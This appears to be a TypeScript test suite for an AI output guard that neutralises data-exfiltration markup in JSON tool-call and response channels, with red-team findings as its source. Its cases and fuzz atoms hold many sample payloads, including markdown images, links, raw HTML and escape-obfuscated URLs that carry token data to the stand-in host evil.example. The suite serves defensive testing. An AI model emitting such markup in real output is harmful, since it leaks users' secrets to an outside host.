// The exfiltration stage in a channel whose text is JSON (tool-call arguments, content under a JSON
// response_format): a rewrite keeps the JSON valid — the client's JSON.parse must not fail — and each string value,
// rendered as markdown, reaches nothing outside the allowlist (red team re-check 4, finding 05: the markdown
// escapes `\:` `\.` `\[` the rewrite inserted are invalid JSON escapes). Whole and streamed in 1-, 3- and
// 7-character deltas give the same text.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { compileGuard, STRICT_GUARDRAILS } from './guard.ts';
import { ALLOWED, DATA, guard, streamed, strings } from './test/json-channel.ts';
import { ESCAPED_VALUE_CASES } from './test/json-cases.ts';
import { violations } from './markdown-oracle.ts';

// [name, JSON text, the parsed value expected (undefined: only checked to parse and render safely), data removed]
const CASES: [string, string, unknown, boolean][] = [
  [
    'bare URL with a redaction marker (the finding)',
    '{"url":"https://evil.example/c?d=[REDACTED:github-token]"}',
    { url: 'https\\:\\/\\/evil\\.example\\/c?d=[REDACTED\\:github-token]' },
    false,
  ],
  ['markdown image (the finding)', '{"md":"![x](https://evil.example/p.png?d=abc)"}', { md: '\\[image: x\\]' }, true],
  [
    'link and autolink',
    `{"a":"see [docs](https://evil.example/?d=${DATA}) or <https://evil.example/?d=${DATA}>"}`,
    { a: 'see [docs] \\[link removed\\] or \\[link removed\\]' },
    true,
  ],
  [
    'alt text with a quote and a backslash',
    '{"md":"![a \\"b\\" \\\\ c](https://evil.example/p.png)"}',
    { md: '\\[image: a \\"b\\" \\\\ c\\]' },
    true,
  ],
  [
    'JSON escapes inside the URL (\\/, \\n, \\u0041): the decoded value is defanged as markdown',
    `{"u":"https://evil.example/c\\/d?e=${DATA}\\u0041\\nnext"}`,
    { u: `https\\:\\/\\/evil\\.example\\/c\\/d?e=${DATA}A\nnext` },
    false,
  ],
  ['a URL ending at an escaped quote', `{"u":"say https://evil.example/?d=${DATA}\\"quoted\\""}`, undefined, false],
  [
    'a bare URL linkify reads on past its string',
    `{"a":"https://evil.example/c/${DATA}/x?y=1","b":"z","c":1}`,
    undefined,
    false,
  ],
  ['an image split over two strings', '{"a":"![x","b":"](https://evil.example/p.png?d=abc)"}', undefined, true],
  [
    'a bare URL overlapping an image',
    `{"a":"https://evil.example/c?d=${DATA}![x](https://evil.example/p.png?d=abc)"}`,
    undefined,
    false,
  ],
  [
    'pretty-printed, over several lines',
    '{\n  "md": "![x](https://evil.example/p.png?d=abc)",\n  "n": [1, 2]\n}',
    { md: '\\[image: x\\]', n: [1, 2] },
    true,
  ],
  [
    'raw HTML',
    `{"h":"<img src='https://evil.example/p.png?d=abc'>"}`,
    { h: "&lt;img src='https://evil.example/p.png?d=abc'>" },
    false,
  ],
  // left as they are: a plain address outside the allowlist, markdown that links nowhere, allowed hosts
  ['plain address', '{"url":"https://evil.example/c?d=hello"}', { url: 'https://evil.example/c?d=hello' }, false],
  [
    'markdown without links',
    '{"q":"see **bold** and a_b_c and 1. item"}',
    { q: 'see **bold** and a_b_c and 1. item' },
    false,
  ],
  [
    'allowed image',
    '{"md":"![x](https://docs.example.com/p.png?d=abc)"}',
    { md: '![x](https://docs.example.com/p.png?d=abc)' },
    false,
  ],
];

describe('exfiltration in a JSON channel: rewrites keep the JSON valid', () => {
  for (const [name, text, want, removed] of CASES)
    it(name, () => {
      const out = guard.scanOutput(text, 'json').text;
      let parsed: unknown;
      assert.doesNotThrow(() => (parsed = JSON.parse(out)), `not JSON: ${out}`);
      if (want !== undefined) assert.deepEqual(parsed, want);
      for (const s of strings(parsed)) assert.deepEqual(violations(s, ALLOWED), [], s);
      if (removed) assert.ok(!out.includes(DATA) && !out.includes('d=abc'), out);
      for (const n of [1, 3, 7]) assert.equal(streamed(text, n), out, `streamed in ${n}-character deltas`);
    });

  it('markdown channels keep the markdown rewrite', () => {
    assert.equal(guard.scanOutput('![x](https://evil.example/p.png?d=abc)').text, '\\[image: x\\]');
  });
});

// Each decoded string value is read as the client reads it after JSON.parse (red team re-check 4, finding 05, what
// the JSON-text reading missed): a URL behind `\/` or `\u` escapes, attribute quotes written `\"`, a code span the
// JSON text opens across values, a key. [name, JSON text, the parsed value expected]
const DECODED: [string, string, unknown][] = [
  ...ESCAPED_VALUE_CASES,
  [
    'a reference image after \\n escapes',
    '{"a":"x `\\n\\n[r]: https://evil.example/p.png\\n\\n![r]"}',
    { a: 'x `\n\n[r]: https://evil.example/p.png\n\n\\[image: r\\]' },
  ],
  ['an image in a key', '{"![k](https://evil.example/p.png?d=abc)":1}', { '\\[image: k\\]': 1 }],
  [
    'surrogate pairs around an image, as \\u escapes',
    '{"e":"\\ud83d\\ude00 ![x](https:\\/\\/evil.example\\/p.png?d=abc) \\ud83d\\ude00"}',
    { e: '\u{1F600} \\[image: x\\] \u{1F600}' },
  ],
  // left as they decode: escapes, numbers and literals, an allowed host, CRLF in a value nothing can link
  [
    'benign values',
    '{"p":"C:\\\\Users\\\\x","n":[1,-2.5e3,true,false,null],"u":"https:\\/\\/docs.example.com\\/x","c":"a\\r\\nb","é":"\\u00e9"}',
    { p: 'C:\\Users\\x', n: [1, -2.5e3, true, false, null], u: 'https://docs.example.com/x', c: 'a\r\nb', é: 'é' },
  ],
];

describe('exfiltration in a JSON channel: each decoded string value is judged', () => {
  for (const [name, text, want] of DECODED)
    it(name, () => {
      const out = guard.scanOutput(text, 'json').text;
      const parsed: unknown = JSON.parse(out);
      assert.deepEqual(parsed, want);
      for (const s of [out, ...strings(parsed)]) assert.deepEqual(violations(s, ALLOWED), [], s);
      for (const n of [1, 3, 7]) assert.equal(streamed(text, n), out, `streamed in ${n}-character deltas`);
    });

  it('finding offsets are in the JSON text', () => {
    const text = '{"md":"![x](https:\\/\\/evil.example\\/p.png?d=abc)"}';
    const f = guard.scanOutput(text, 'json').findings.filter((x) => x.kind === 'exfiltration');
    assert.deepEqual(
      f.map((x) => [x.detector, x.start, x.end]),
      [['markdown-image', 7, text.length - 2]],
    );
  });

  it('flag mode reports a hidden image and leaves the text as it came', () => {
    const flag = compileGuard({
      ...STRICT_GUARDRAILS,
      redaction: { detectors: [], customPatterns: [] },
      exfiltration: { mode: 'flag', allowedHosts: ALLOWED },
    });
    const text =
      '{"md":"![x](\\u0068ttps:\\/\\/evil.example\\/p.png?d=abc)","c":"a\\r\\nb [x](https://docs.example.com/)"}';
    const r = flag.scanOutput(text, 'json');
    assert.equal(r.text, text);
    // reading 1 (the decoded value); reading 2 reads the raw text's `\u0068ttps:\/\/evil.example` as a relative
    // image whose path names a foreign host (a path-style redirect on the page's own origin): the same image
    assert.deepEqual(
      r.findings.map((f) => [f.detector, f.start]),
      [
        ['markdown-image', 7],
        ['markdown-image', 7],
      ],
    );
    const s = flag.streamOutput('json');
    let got = '';
    for (const c of text) got += s.push(c).text;
    assert.equal(got + s.end().text, text);
  });

  it('text that is not JSON is read as markdown from where it stops being JSON', () => {
    for (const text of [
      'Sure: ![x](https://evil.example/p.png?d=abc) {"a":1}',
      '{"a":"![r]"}\n\n[r]: https://evil.example/p.png',
      '{"a":"x\\q ![x](https://evil.example/p.png?d=abc)"}',
      '{"a":"![x](https://evil.example/p.png?d=abc)',
    ]) {
      const out = guard.scanOutput(text, 'json').text;
      assert.deepEqual(violations(out, ALLOWED), [], out);
      for (const n of [1, 3, 7]) assert.equal(streamed(text, n), out, `streamed in ${n}-character deltas`);
    }
  });
});

describe('exfiltration in a JSON channel: a document after the first one (recheck 7, finding 08)', () => {
  // a client that extracts the JSON of every fenced block (or the last one) and renders its values
  const fenced = (t: string): string[] =>
    [...t.matchAll(/```json\n([\s\S]*?)\n```/g)].flatMap((m) => strings(JSON.parse(m[1] as string)));
  const img = `![x](https:\\/\\/evil.example\\/p.png?d=${DATA})`;
  it('a second ```json fence is read as JSON: its values reach nothing foreign, whole and streamed', () => {
    for (const second of [
      `{"note":"${img}"}`,
      `{"note":"\\u0021[x](https://evil.example/p.png?d=${DATA})"}`,
      `[{"a":"${img}"}]`,
    ]) {
      const text = `\`\`\`json\n{"a":1}\n\`\`\`\nFixed:\n\`\`\`json\n${second}\n\`\`\``;
      assert.ok(
        fenced(text).some((v) => violations(v, ALLOWED).length > 0),
        `the input renders it: ${text}`,
      );
      const out = guard.scanOutput(text, 'json').text;
      for (const v of fenced(out)) assert.deepEqual(violations(v, ALLOWED), [], `${v} in ${out}`);
      for (const n of [1, 3, 7]) assert.equal(streamed(text, n), out, `streamed in ${n}-character deltas`);
    }
  });
});

// The fuzz that found the gap, as a seeded property test: JSON documents of links, images, bare URLs, raw HTML,
// code spans and fences, written with `\/` and `\u` escapes at random; after the stage every document parses, no
// parsed value (keys included) and not the text itself renders a foreign target, and random splits give the
// whole output. TOLLGATE_EXFIL_JSON_FUZZ / TOLLGATE_EXFIL_JSON_SEED set the count (default 300) and the seed.
describe('exfiltration in a JSON channel: seeded fuzz of escaped values', () => {
  const D = 'Zq8xT4mN2bV6cR1yL9wK3jH7gF5dS0aP2eU4';
  const ATOMS = [
    `![al"t\\\\x](https://evil.example/p.png?d=${D})`,
    `[t](https://evil.example/?d=${D})`,
    `<https://evil.example/?d=${D}>`,
    `https://evil.example/c?d=${D}`,
    `//evil.example/${D}`,
    `[r]: https://evil.example/${D}`,
    '![r]',
    `<img src="https://evil.example/${D}">`,
    `![a](https://docs.example.com/redirect?to=https://evil.example/${D})`,
    `https://docs.example.com/x?d=${D}`,
    ...['\n', '\n\n', '"q"', '\\', '/', 'ünï', '\u2028', ' ', 'word', '`code`', '```\n', '[', ']', '(', ')', '!', ':'],
    '\u{1F600}',
  ];
  it('parses, renders nothing foreign, streamed = whole', () => {
    let seed = Number(process.env.TOLLGATE_EXFIL_JSON_SEED ?? 1);
    const rnd = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
    const pick = <T>(a: readonly T[]) => a[Math.floor(rnd() * a.length)] as T;
    const count = Number(process.env.TOLLGATE_EXFIL_JSON_FUZZ ?? 300);
    for (let i = 0; i < count; i++) {
      const obj: Record<string, unknown> = {};
      for (let j = 0, k = 1 + Math.floor(rnd() * 3); j < k; j++) {
        let v = '';
        for (let q = 0, m = 1 + Math.floor(rnd() * 6); q < m; q++) v += pick(ATOMS);
        obj[`k${j}`] = rnd() < 0.2 ? [v, { z: v }] : v;
      }
      let text = JSON.stringify(obj, null, rnd() < 0.3 ? 2 : undefined);
      if (rnd() < 0.5) text = text.replace(/\//g, '\\/');
      if (rnd() < 0.5) text = text.replace(/[a-z]/g, (c) => (rnd() < 0.1 ? `\\u00${c.charCodeAt(0).toString(16)}` : c));
      const out = guard.scanOutput(text, 'json').text;
      const parsed: unknown = JSON.parse(out);
      for (const s of [out, ...strings(parsed)]) assert.deepEqual(violations(s, ALLOWED), [], `${text}\n-> ${out}`);
      const s = guard.streamOutput('json');
      let got = '';
      for (let at = 0; at < text.length;) {
        const len = rnd() < 0.1 ? 1 : 1 + Math.floor(rnd() * 12);
        got += s.push(text.slice(at, at + len)).text;
        at += len;
      }
      assert.equal(got + s.end().text, out, text);
    }
  });
});
